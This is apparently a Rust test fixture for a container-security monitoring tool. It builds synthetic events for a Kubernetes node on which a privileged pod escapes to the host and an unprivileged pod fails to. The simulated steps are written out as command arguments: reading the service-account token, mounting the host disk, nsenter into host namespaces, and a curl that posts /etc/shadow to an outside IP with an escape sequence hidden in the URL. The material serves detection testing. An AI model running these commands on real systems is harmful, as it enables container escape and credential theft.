//! A node on which a process escapes from a privileged pod, and one in an unprivileged pod fails to.

use std::sync::Arc;

use kerntrail_schemas::cell::Micros;
use kerntrail_schemas::identity::{
    BootHash, BootId, ContainerId, FindingId, PodUid, ProcessUid, RuleId, StreamId, event_id,
};
use kerntrail_schemas::tables::{
    Actor, Envelope, FileColumns, FindingColumns, KernelColumns, LossColumns, NetworkColumns, ProcessColumns,
};

use crate::rows::Rows;

/// 2026-08-01 10:00:00 UTC.
pub(crate) const BEGIN: i64 = 1_785_578_400_000_000;
/// Namespaces of the node.
pub(crate) const HOST: [i64; 4] = [4_026_531_841, 4_026_531_836, 4_026_531_840, 4_026_531_837];
const WEB: [i64; 4] = [4_026_532_801, 4_026_532_803, 4_026_532_701, 4_026_531_837];
const TOOLS: [i64; 4] = [4_026_532_901, 4_026_532_903, 4_026_532_702, 4_026_531_837];
const ALL_CAPABILITIES: i64 = 0x1ff_ffff_ffff;
const FEW_CAPABILITIES: i64 = 0xa804_25fb;
pub(crate) const WEB_ID: &str = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90";

/// Writes the events of a node.
pub(crate) struct Node {
    name: &'static str,
    boot: BootHash,
    boot_id: BootId,
    stream: StreamId,
    pub(crate) rows: Rows,
    seq: [i64; 2],
}

/// A process as the script goes on.
#[derive(Clone)]
pub(crate) struct Process(pub(crate) Actor);

impl Node {
    pub(crate) fn new(name: &'static str) -> Self {
        let boot_id = BootId::new("59a5a6c4-8f13-4d0b-9a3f-4be4a4a1b9a7");
        let stream = StreamId::of_collector(&boot_id, 7);
        Self { name, boot: BootHash::of(boot_id.as_str()), boot_id, stream, rows: Rows::default(), seq: [0, 0] }
    }

    /// The envelope of the next event of processor 0.
    pub(crate) fn envelope(&mut self, millis: i64, activity: &str) -> Envelope {
        let time = Micros(BEGIN + millis * 1_000);
        let seq = self.seq[0];
        self.seq[0] += 1;
        Envelope {
            date: Some(time.day()),
            time: Some(time),
            boot_ns: Some(100_000_000_000_000 + millis * 1_000_000),
            node: Some(self.name.into()),
            cluster: Some("test".into()),
            boot_id: Some(self.boot_id.clone()),
            source: Some("kernel"),
            stream: Some(self.stream.clone()),
            cpu: Some(0),
            seq: Some(seq),
            activity: Some(activity.into()),
            action: Some("observed"),
            count: Some(1),
            ..Envelope::default()
        }
    }

    fn event_ref(&self, table: &str, envelope: &Envelope) -> String {
        format!("{table}/{}", event_id(&self.stream, envelope.cpu.unwrap(), envelope.seq.unwrap()))
    }

    pub(crate) fn uid(&self, pid: i32, millis: i64) -> ProcessUid {
        ProcessUid::new(&self.boot, (100_000_000_000_000 + millis * 1_000_000) as u64, pid as u32)
    }

    /// A process of the node itself.
    pub(crate) fn host_process(&self, pid: i32, millis: i64, parent: Option<&Process>) -> Process {
        let mut actor = Actor {
            process_uid: Some(self.uid(pid, millis)),
            pid: Some(pid),
            process_start_time: Some(Micros(BEGIN + millis * 1_000)),
            uid: Some(0),
            euid: Some(0),
            exec_seq: Some(0),
            cap_effective: Some(ALL_CAPABILITIES),
            enrichment_state: Some("host".into()),
            in_host_mnt_ns: Some(true),
            in_host_pid_ns: Some(true),
            ..Actor::default()
        };
        in_namespaces(&mut actor, HOST);
        if let Some(Process(parent)) = parent {
            descend(&mut actor, parent);
        }
        Process(actor)
    }

    /// A process that `parent` forks; nothing else differs.
    pub(crate) fn fork(&mut self, millis: i64, parent: &Process, pid: i32) -> Process {
        let mut actor = parent.0.clone();
        descend(&mut actor, &parent.0);
        actor.process_uid = Some(self.uid(pid, millis));
        actor.pid = Some(pid);
        actor.process_start_time = Some(Micros(BEGIN + millis * 1_000));
        actor.exec_seq = Some(0);
        let child = Process(actor);
        self.process_event(millis, "fork", &child, ProcessColumns::default());
        child
    }

    pub(crate) fn exec(&mut self, millis: i64, process: &mut Process, args: &[&str], own: ProcessColumns) -> String {
        process.runs(args);
        process.0.exec_seq = process.0.exec_seq.map(|number| number + 1);
        self.process_event(millis, "exec", process, own)
    }

    pub(crate) fn process_event(
        &mut self,
        millis: i64,
        activity: &str,
        process: &Process,
        own: ProcessColumns,
    ) -> String {
        let envelope = self.envelope(millis, activity);
        self.rows.process.append(&envelope, Some(&Arc::new(process.0.clone())), &own);
        self.event_ref("process_events", &envelope)
    }

    pub(crate) fn exit(&mut self, millis: i64, process: &Process, code: i32) {
        self.process_event(
            millis,
            "exit",
            process,
            ProcessColumns { exit_code: Some(code), ..ProcessColumns::default() },
        );
    }

    pub(crate) fn kernel(&mut self, millis: i64, activity: &str, process: &Process, own: KernelColumns) -> String {
        let envelope = self.envelope(millis, activity);
        self.rows.kernel.append(&envelope, Some(&Arc::new(process.0.clone())), &own);
        self.event_ref("kernel_events", &envelope)
    }

    pub(crate) fn network(&mut self, millis: i64, activity: &str, process: &Process, own: NetworkColumns) -> String {
        let envelope = self.envelope(millis, activity);
        self.rows.network.append(&envelope, Some(&Arc::new(process.0.clone())), &own);
        self.event_ref("network_flows", &envelope)
    }

    pub(crate) fn finding(&mut self, millis: i64, process: &Process, own: FindingColumns) {
        let mut envelope = self.envelope(millis, "create");
        envelope.source = Some("kerntrail");
        envelope.stream = Some(StreamId::new("rules"));
        self.rows.findings.append(&envelope, Some(&Arc::new(process.0.clone())), &own);
    }
}

impl Process {
    /// Puts it into a container.
    pub(crate) fn contain(mut self, id: &str, pod: &str, namespaces: [i64; 4], privileged: bool) -> Self {
        let (namespace, name) = pod.split_once('/').unwrap();
        let actor = &mut self.0;
        in_namespaces(actor, namespaces);
        actor.in_host_mnt_ns = Some(false);
        actor.in_host_pid_ns = Some(false);
        actor.cap_effective = Some(if privileged { ALL_CAPABILITIES } else { FEW_CAPABILITIES });
        actor.container_id = Some(ContainerId::new(id));
        actor.container_name = Some("main".into());
        actor.image = Some("registry.example/web:1.27".into());
        actor.container_privileged = Some(privileged);
        actor.pod_uid = Some(PodUid::new("4be4a4a1"));
        actor.pod_name = Some(name.into());
        actor.namespace = Some(namespace.into());
        actor.pod_labels = Some([("app".to_owned(), "web".to_owned())].into());
        actor.workload_kind = Some("StatefulSet".into());
        actor.workload_name = Some("web".into());
        actor.service_account = Some("default".into());
        actor.origin_container_id = Some(ContainerId::new(id));
        actor.origin_pod_uid = Some(PodUid::new("4be4a4a1"));
        actor.origin_pod_name = Some(name.into());
        actor.origin_namespace = Some(namespace.into());
        actor.enrichment_state = Some("complete".into());
        self
    }

    /// Takes it out of its container's cgroup; where it was born is kept.
    pub(crate) fn leave_cgroup(&mut self) {
        let actor = &mut self.0;
        actor.container_id = None;
        actor.container_name = None;
        actor.image = None;
        actor.container_privileged = None;
        actor.pod_uid = None;
        actor.pod_name = None;
        actor.namespace = None;
        actor.pod_labels = None;
        actor.workload_kind = None;
        actor.workload_name = None;
        actor.service_account = None;
        actor.enrichment_state = Some("host".into());
    }

    /// Forgets where it was born, as a source does that cannot know.
    pub(crate) fn forget_origin(&mut self) {
        self.0.origin_container_id = None;
        self.0.origin_pod_uid = None;
        self.0.origin_pod_name = None;
        self.0.origin_namespace = None;
    }

    pub(crate) fn runs(&mut self, args: &[&str]) {
        let path = args[0].to_owned();
        self.0.process_name = Some(path.rsplit('/').next().unwrap().to_owned());
        self.0.process_path = Some(path);
        self.0.args = Some(args.iter().map(|arg| (*arg).to_owned()).collect());
        self.0.cmd_line = Some(args.join(" "));
    }
}

fn in_namespaces(actor: &mut Actor, [mnt, pid, net, user]: [i64; 4]) {
    actor.mnt_ns = Some(mnt);
    actor.pid_ns = Some(pid);
    actor.net_ns = Some(net);
    actor.user_ns = Some(user);
}

fn descend(actor: &mut Actor, parent: &Actor) {
    actor.parent_process_uid = parent.process_uid;
    actor.parent_pid = parent.pid;
    actor.parent_path = parent.process_path.clone();
    actor.parent_args = parent.args.clone();
    let uid = parent.parent_process_uid.map(|uid| uid.to_string());
    actor.ancestor_uids = Some(uid.into_iter().chain(parent.ancestor_uids.clone().unwrap_or_default()).collect());
    let path = parent.parent_path.clone();
    actor.ancestor_paths = Some(path.into_iter().chain(parent.ancestor_paths.clone().unwrap_or_default()).collect());
}

fn setns(kind: &str, old: i64, new: i64) -> KernelColumns {
    let mut own = KernelColumns { ns_type: Some(kind.into()), ret: Some(0), ..KernelColumns::default() };
    match kind {
        "mnt" => (own.old_mnt_ns, own.new_mnt_ns) = (Some(old), Some(new)),
        "pid" => (own.old_pid_ns, own.new_pid_ns) = (Some(old), Some(new)),
        _ => (own.old_net_ns, own.new_net_ns) = (Some(old), Some(new)),
    }
    own
}

fn flow(port: i32, to: &str, to_port: i32) -> NetworkColumns {
    NetworkColumns {
        protocol: Some("TCP".into()),
        direction: Some("outbound".into()),
        src_ip: Some("192.0.2.2".into()),
        src_port: Some(port),
        dst_ip: Some(to.into()),
        dst_port: Some(to_port),
        ..NetworkColumns::default()
    }
}

/// Everything that happened on the node.
pub(crate) fn escape() -> Node {
    let mut node = Node::new("worker-1");
    let mut init = node.host_process(1, -90_000_000, None);
    init.runs(&["/usr/lib/systemd/systemd"]);
    node.process_event(-3_600_000, "existing", &init, ProcessColumns::default());
    let mut shim = node.host_process(800, -7_200_000, Some(&init));
    shim.runs(&["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io"]);
    node.process_event(-3_600_000, "existing", &shim, ProcessColumns::default());
    let mut server = node.host_process(1200, -7_100_000, Some(&shim)).contain(WEB_ID, "prod/web-0", WEB, true);
    server.runs(&["/usr/sbin/nginx"]);
    node.process_event(-3_600_000, "existing", &server, ProcessColumns::default());
    privileged_pod(&mut node, &shim);
    unprivileged_pod(&mut node, &shim);
    let mut cron = node.host_process(5000, 2_700, Some(&init));
    node.exec(2_700, &mut cron, &["/usr/sbin/cron"], ProcessColumns::default());
    node.exec(2_705, &mut cron, &["/bin/sh", "-c", "logrotate"], ProcessColumns::default());
    node.exec(2_710, &mut cron, &["/usr/sbin/logrotate"], ProcessColumns::default());
    node
}

fn privileged_pod(node: &mut Node, shim: &Process) {
    let plain = ProcessColumns::default;
    let mut shell = node.host_process(4201, 0, Some(shim)).contain(WEB_ID, "prod/web-0", WEB, true);
    let tty = ProcessColumns { stdin_kind: Some("tty".into()), ..plain() };
    let shell_ref = node.exec(0, &mut shell, &["/bin/sh", "-i"], tty);

    let mut cat = node.fork(1_000, &shell, 4205);
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    node.exec(1_001, &mut cat, &["/bin/cat", token], plain());
    let envelope = node.envelope(1_002, "read");
    let read = FileColumns { path: Some(token.into()), bytes: Some(1_178), ..FileColumns::default() };
    node.rows.file.append(&envelope, Some(&Arc::new(cat.0.clone())), &read);
    node.exit(1_004, &cat, 0);

    let mut mount = node.fork(2_000, &shell, 4206);
    node.exec(2_001, &mut mount, &["/bin/mount", "/dev/vda1", "/mnt"], plain());
    let mounted = KernelColumns {
        source_path: Some("/dev/vda1".into()),
        target_path: Some("/mnt".into()),
        fs_type: Some("ext4".into()),
        ret: Some(0),
        mount_is_host: Some(true),
        ..KernelColumns::default()
    };
    node.kernel(2_002, "mount", &mount, mounted);
    node.exit(2_005, &mount, 0);

    let mut nsenter = node.fork(3_000, &shell, 4207);
    node.exec(3_001, &mut nsenter, &["/usr/bin/nsenter", "-t", "1", "-m", "-p", "-n", "--", "bash"], plain());
    node.kernel(3_002, "setns", &nsenter, setns("net", WEB[2], HOST[2]));
    nsenter.0.net_ns = Some(HOST[2]);
    node.kernel(3_003, "setns", &nsenter, setns("pid", WEB[1], HOST[1]));
    nsenter.0.mnt_ns = Some(HOST[0]);
    nsenter.0.in_host_mnt_ns = Some(true);
    let entered = node.kernel(3_004, "setns", &nsenter, setns("mnt", WEB[0], HOST[0]));
    let high = FindingColumns {
        finding_id: Some(FindingId::new("5f0d1c2b3a49")),
        rule_id: Some(RuleId::new("0b2b1c9e")),
        rule_name: Some("Mount namespace of the host entered".into()),
        severity: Some("high".into()),
        risk_score: Some(80),
        attack_tactics: Some(vec!["privilege-escalation".into()]),
        attack_techniques: Some(vec!["T1611".into()]),
        first_time: Some(Micros(BEGIN + 3_004_000)),
        last_time: Some(Micros(BEGIN + 3_004_000)),
        event_refs: Some(vec![entered.clone()]),
        message: Some("nsenter of prod/web-0 entered the mount namespace of worker-1".into()),
        ..FindingColumns::default()
    };
    node.finding(9_000, &nsenter, high);

    let mut bash = node.fork(3_100, &nsenter, 4208);
    bash.0.pid_ns = Some(HOST[1]);
    bash.0.in_host_pid_ns = Some(true);
    let on_host = node.exec(3_101, &mut bash, &["/usr/bin/bash"], plain());
    let mut id = node.fork(3_500, &bash, 4210);
    id.forget_origin();
    id.leave_cgroup();
    node.exec(3_501, &mut id, &["/usr/bin/id"], plain());
    node.exit(3_502, &id, 0);

    let mut curl = node.fork(4_000, &bash, 4209);
    curl.leave_cgroup();
    node.exec(4_001, &mut curl, &["/usr/bin/curl", "-d", "@/etc/shadow", "https://198.51.100.7/\x1b[2J"], plain());
    let out =
        node.network(4_050, "connect", &curl, NetworkColumns { ret: Some(-115), ..flow(43_122, "198.51.100.7", 443) });
    let closed = NetworkColumns {
        bytes_out: Some(2_048),
        bytes_in: Some(312),
        start_time: Some(Micros(BEGIN + 4_050_000)),
        end_time: Some(Micros(BEGIN + 4_650_000)),
        ..flow(43_122, "198.51.100.7", 443)
    };
    node.network(4_650, "close", &curl, closed);
    for number in 0..3 {
        let failed = NetworkColumns { ret: Some(-111), ..flow(43_130 + number, "203.0.113.5", 22) };
        node.network(4_700 + i64::from(number), "connect", &curl, failed);
    }
    node.exit(4_800, &curl, 7);
    let critical = FindingColumns {
        finding_id: Some(FindingId::new("c0ffee112233")),
        rule_name: Some("Container escape".into()),
        severity: Some("critical".into()),
        attack_techniques: Some(vec!["T1611".into(), "T1041".into()]),
        first_time: Some(Micros(BEGIN)),
        last_time: Some(Micros(BEGIN + 4_050_000)),
        event_refs: Some(vec![shell_ref, entered, on_host, out]),
        ..FindingColumns::default()
    };
    node.finding(9_100, &shell, critical);
    lose(node);
    node.process_event(9_000, "exit", &bash, ProcessColumns { exit_code: Some(0), exit_signal: Some(9), ..plain() });
}

fn lose(node: &mut Node) {
    let mut envelope = node.envelope(4_300, "ring_full");
    envelope.cpu = Some(1);
    let loss = LossColumns {
        from_seq: Some(40),
        to_seq: Some(51),
        lost: Some(12),
        start_time: Some(Micros(BEGIN + 4_100_000)),
        end_time: Some(Micros(BEGIN + 4_300_000)),
        ..LossColumns::default()
    };
    node.rows.loss.append(&envelope, None, &loss);
}

fn unprivileged_pod(node: &mut Node, shim: &Process) {
    let id = "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0";
    let mut shell = node.host_process(6001, 5_000, Some(shim)).contain(id, "dev/tools-0", TOOLS, false);
    node.exec(5_000, &mut shell, &["/bin/sh"], ProcessColumns::default());
    let mut nsenter = node.fork(5_100, &shell, 6002);
    node.exec(5_101, &mut nsenter, &["/usr/bin/nsenter", "-t", "1", "-m"], ProcessColumns::default());
    let refused = KernelColumns { ns_type: Some("mnt".into()), ret: Some(-1), ..KernelColumns::default() };
    node.kernel(5_102, "setns", &nsenter, refused);
    node.exit(5_103, &nsenter, 1);
}
